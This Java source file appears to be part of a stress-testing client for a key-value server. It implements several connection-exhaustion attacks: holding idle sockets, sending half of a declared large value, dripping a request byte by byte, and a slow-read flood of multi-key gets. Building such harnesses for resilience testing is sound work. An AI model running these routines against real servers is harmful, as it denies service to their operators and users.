package wdb.client.attack;

import java.io.IOException;
import java.io.OutputStream;
import java.net.Socket;
import java.nio.charset.StandardCharsets;

/** The attacks that take a place and keep it. */
final class Holding {
    static final String LARGE_KEY = Attack.KEY_PREFIX + "large";
    static final int LARGE_BYTES = 1 << 20;
    private static final int DRIP_MS = 10;
    private static final int GETS_A_LINE = 16;

    private Holding() {}

    static void hold(Attacker attacker) throws IOException {
        Socket socket = attacker.connect();
        Attacker.send(socket, "ping\r\n");
        Attacker.linger(socket);
    }

    static void blast(Attacker attacker) throws IOException {
        Attacker.linger(attacker.connect());
    }

    static void halfSet(Attacker attacker) throws IOException {
        Socket socket = attacker.connect();
        Attacker.send(socket, "set " + Attack.KEY_PREFIX + "half " + LARGE_BYTES + "\r\n");
        socket.getOutputStream().write(new byte[LARGE_BYTES / 2]);
        Attacker.linger(socket);
    }

    static void drip(Attacker attacker) throws IOException, InterruptedException {
        OutputStream out = attacker.connect().getOutputStream();
        byte[] request = ("set " + Attack.KEY_PREFIX + "drip 5\r\nhello\r\n").getBytes(StandardCharsets.US_ASCII);
        for (int i = 0; attacker.running(); i++) {
            out.write(request[i % request.length]);
            Attacker.pause(DRIP_MS);
        }
    }

    /** Asks until the server stops reading, with as small a window as the kernel gives; then the write waits until the attack is over. */
    static void slowRead(Attacker attacker) throws IOException {
        Socket socket = new Socket();
        socket.setReceiveBufferSize(4_096);
        attacker.connect(socket);
        String line = "get" + (" " + LARGE_KEY).repeat(GETS_A_LINE) + "\r\n";
        while (attacker.running()) {
            Attacker.send(socket, line);
        }
    }
}
